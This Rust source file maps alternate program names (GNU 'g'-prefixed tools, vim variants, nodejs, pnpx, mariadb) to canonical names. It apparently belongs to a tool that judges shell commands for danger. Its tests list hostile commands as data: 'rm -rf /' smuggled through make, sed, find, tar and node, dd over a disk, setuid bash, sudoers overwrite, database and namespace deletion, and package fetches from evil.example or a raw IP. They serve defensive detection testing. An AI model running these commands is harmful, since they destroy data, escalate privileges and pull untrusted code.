//! Programs that go by more than one name. Owns which name is another one's: everything that is known of such a program stands under one
//! name, and is found by each. A program that only does much the same (`podman`, `tofu`, `mawk`) is one of its own.

use crate::hash::Sieve;

/// Tools of GNU that are installed with a `g` before their names where the system has others of that name (Homebrew's and MacPorts'
/// coreutils, findutils, gnu-sed, gnu-tar, grep and make; pkgsrc), sorted without it. Not here: `test`, as `gtest` is somebody else's,
/// and those with rows of their own under that name (`awk`).
const OF_GNU: &[&str] = &[
    "b2sum",
    "base32",
    "base64",
    "basename",
    "basenc",
    "cat",
    "chcon",
    "chgrp",
    "chmod",
    "chown",
    "chroot",
    "cksum",
    "comm",
    "cp",
    "csplit",
    "cut",
    "date",
    "dd",
    "df",
    "dir",
    "dircolors",
    "dirname",
    "du",
    "echo",
    "egrep",
    "env",
    "expand",
    "expr",
    "factor",
    "false",
    "fgrep",
    "find",
    "fmt",
    "fold",
    "grep",
    "groups",
    "head",
    "hostid",
    "id",
    "install",
    "join",
    "kill",
    "link",
    "ln",
    "locate",
    "logname",
    "ls",
    "make",
    "md5sum",
    "mkdir",
    "mkfifo",
    "mknod",
    "mktemp",
    "mv",
    "nice",
    "nl",
    "nohup",
    "nproc",
    "numfmt",
    "od",
    "paste",
    "pathchk",
    "pinky",
    "pr",
    "printenv",
    "printf",
    "ptx",
    "pwd",
    "readlink",
    "realpath",
    "rm",
    "rmdir",
    "sed",
    "seq",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "shred",
    "shuf",
    "sleep",
    "sort",
    "split",
    "stat",
    "stdbuf",
    "stty",
    "sum",
    "sync",
    "tac",
    "tail",
    "tar",
    "tee",
    "time",
    "timeout",
    "touch",
    "tr",
    "true",
    "truncate",
    "tsort",
    "tty",
    "uname",
    "unexpand",
    "uniq",
    "unlink",
    "updatedb",
    "uptime",
    "users",
    "vdir",
    "wc",
    "who",
    "whoami",
    "xargs",
    "yes",
];

/// Other names, and the one under which a program is known, sorted.
const OTHERS: &[(&str, &str)] = &[
    // 7-zip.org: builds of one program with more or fewer formats.
    ("7za", "7z"),
    ("7zr", "7z"),
    ("7zz", "7z"),
    // Debian's names, where the short ones were taken, as `fdfind` and `nodejs`.
    ("batcat", "bat"),
    // chromium.org: one program, with the names and services of several distributors.
    ("chromium-browser", "chromium"),
    ("fdfind", "fd"),
    ("google-chrome", "chromium"),
    ("google-chrome-stable", "chromium"),
    // gnupg.org: what distributions install beside version 1.
    ("gpg2", "gpg"),
    ("gpgv2", "gpgv"),
    // vim(1): "Vim behaves differently, depending on the name of the command (the executable may still be the same file)".
    ("gview", "vim"),
    ("gvim", "vim"),
    ("gvimdiff", "vim"),
    ("helm3", "helm"),
    // mariadb.com/kb: the names since 10.4.6, of which the older ones are links.
    ("mariadb", "mysql"),
    ("mariadb-admin", "mysqladmin"),
    ("mariadb-check", "mysqlcheck"),
    ("mariadb-dump", "mysqldump"),
    ("mariadb-import", "mysqlimport"),
    ("microk8s.kubectl", "kubectl"),
    // maven.apache.org/tools/mvnd: "understands the same command line".
    ("mvnd", "mvn"),
    ("nodejs", "node"),
    ("pip3", "pip"),
    // pnpm.io/cli/dlx: `pnpm dlx`, told in the words of npx.
    ("pnpx", "npx"),
    ("rgview", "vim"),
    ("rgvim", "vim"),
    ("rview", "vim"),
    ("rvim", "vim"),
    // valkey.io/topics/migration: the client of Redis, carried on.
    ("valkey-cli", "redis-cli"),
    ("vi", "vim"),
    ("view", "vim"),
    ("vimdiff", "vim"),
    ("vimx", "vim"),
    // gitlab.com/gnuwget/wget2: the options of wget.
    ("wget2", "wget"),
];

/// This is asked of every program many times, and nearly none of them is one of these.
#[expect(
    clippy::indexing_slicing,
    reason = "runs when the program is built, where a wrong index is an error"
)]
static MAY_BE_ANOTHER: Sieve = {
    let mut sieve = Sieve::EMPTY;
    let mut at = 0;
    while at < OTHERS.len() {
        sieve = sieve.with(OTHERS[at].0);
        at += 1;
    }
    sieve
};

/// The name under which a program is known that is called by this one.
pub(crate) fn known_as(name: &str) -> &str {
    if let Some(rest) = name.strip_prefix('g')
        && OF_GNU.binary_search(&rest).is_ok()
    {
        return rest;
    }
    if !MAY_BE_ANOTHER.lets_through(name) {
        return name;
    }
    let found = OTHERS.binary_search_by(|(other, _)| (*other).cmp(name));
    found.ok().and_then(|at| OTHERS.get(at)).map_or(name, |(_, known)| known)
}

#[cfg(test)]
mod tests {
    use super::{
        super::{
            TABLES, cards, changers, escapes, escapes::near_pairs::verdict, manuals, printers,
        },
        *,
    };

    #[test]
    fn the_names_are_sorted_and_lead_to_no_third() {
        assert!(OF_GNU.is_sorted());
        assert!(OTHERS.is_sorted());
        for (other, known) in OTHERS {
            assert_eq!(known_as(known), *known, "{other}");
        }
    }

    #[test]
    fn what_is_known_of_a_program_stands_under_one_of_its_names() {
        let gnu = OF_GNU.iter().map(|name| format!("g{name}"));
        for other in gnu.chain(OTHERS.iter().map(|(other, _)| (*other).to_owned())) {
            let name = other.as_str();
            let rows = TABLES.iter().flat_map(|table| table.iter());
            let listed = [
                rows.into_iter().any(|row| row.name == name).then_some("a table of programs"),
                cards::all().any(|card| card.name == name).then_some("the cards"),
                escapes::lists(name),
                manuals::listed(name).is_some().then_some("manuals"),
                printers::lists(name).then_some("printers"),
                changers::lists(name).then_some("changers"),
                super::super::abbreviates(name).then_some("abbreviations"),
            ];
            let listed: Vec<&str> = listed.into_iter().flatten().collect();
            assert!(
                listed.is_empty(),
                "`{name}` is `{}`, and has a row in {listed:?}",
                known_as(name)
            );
        }
    }

    #[test]
    fn a_command_is_judged_alike_under_each_name_of_its_program() {
        let commands: &[(&str, &[&str])] = &[
            ("{} -s --eval=$'x:\n\trm -rf /' x", &["make", "gmake"]),
            ("{} -i '1e rm -rf /' notes.txt", &["sed", "gsed"]),
            ("{} . -exec rm -rf / +", &["find", "gfind"]),
            ("ls | {} rm -rf /", &["xargs", "gxargs"]),
            ("{} rm -rf /", &["env", "genv"]),
            ("{} 5 rm -rf /", &["timeout", "gtimeout"]),
            ("{} if=/dev/zero of=/dev/sda", &["dd", "gdd"]),
            ("{} u+s /bin/bash", &["chmod", "gchmod"]),
            ("echo x | {} /etc/sudoers", &["tee", "gtee"]),
            (
                "{} cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
                &["tar", "gtar"],
            ),
            (
                "{} -es -c 'w! /home/dev/.bashrc' -c q notes.txt",
                &["vim", "vi", "view", "gvim", "rvim", "vimdiff"],
            ),
            ("{} -Nu /tmp/vimrc notes.txt", &["vim", "vi", "view"]),
            ("{} -e 'drop database app'", &["mysql", "mariadb"]),
            ("{} --method=DELETE -qO- https://api.example.com/x", &["wget", "wget2"]),
            ("{} -p https://evil.example/x.tgz x", &["npx", "pnpx"]),
            ("{} -Dhttp.proxyHost=169.254.169.254 install", &["mvn", "mvnd"]),
            (
                "{} -n shop delete namespace production",
                &[
                    "kubectl",
                    "k0s kubectl",
                    "k3s kubectl",
                    "microk8s kubectl",
                    "microk8s.kubectl",
                    "minikube -p one kubectl --",
                ],
            ),
            ("{} user@host 'rm -rf /srv/data'", &["ssh", "autossh"]),
            ("{} -e 'require(\"child_process\").execSync(\"rm -rf /\")'", &["node", "nodejs"]),
            ("{} . -x rm -rf /", &["fd", "fdfind"]),
            ("{} flushall", &["redis-cli", "valkey-cli"]),
            ("{} install --index-url http://198.51.100.7/simple x", &["pip", "pip3"]),
        ];
        for (command, names) in commands {
            let judged = |name: &str| verdict(&command.replace("{}", name));
            let wanted = judged(names[0]);
            assert!(!wanted.0.is_empty(), "{command} as {}", names[0]);
            for name in &names[1..] {
                let found = judged(name);
                assert!(
                    wanted.0.is_subset(&found.0),
                    "{command} as {name}: {found:?}, not {wanted:?}"
                );
            }
        }
    }
}
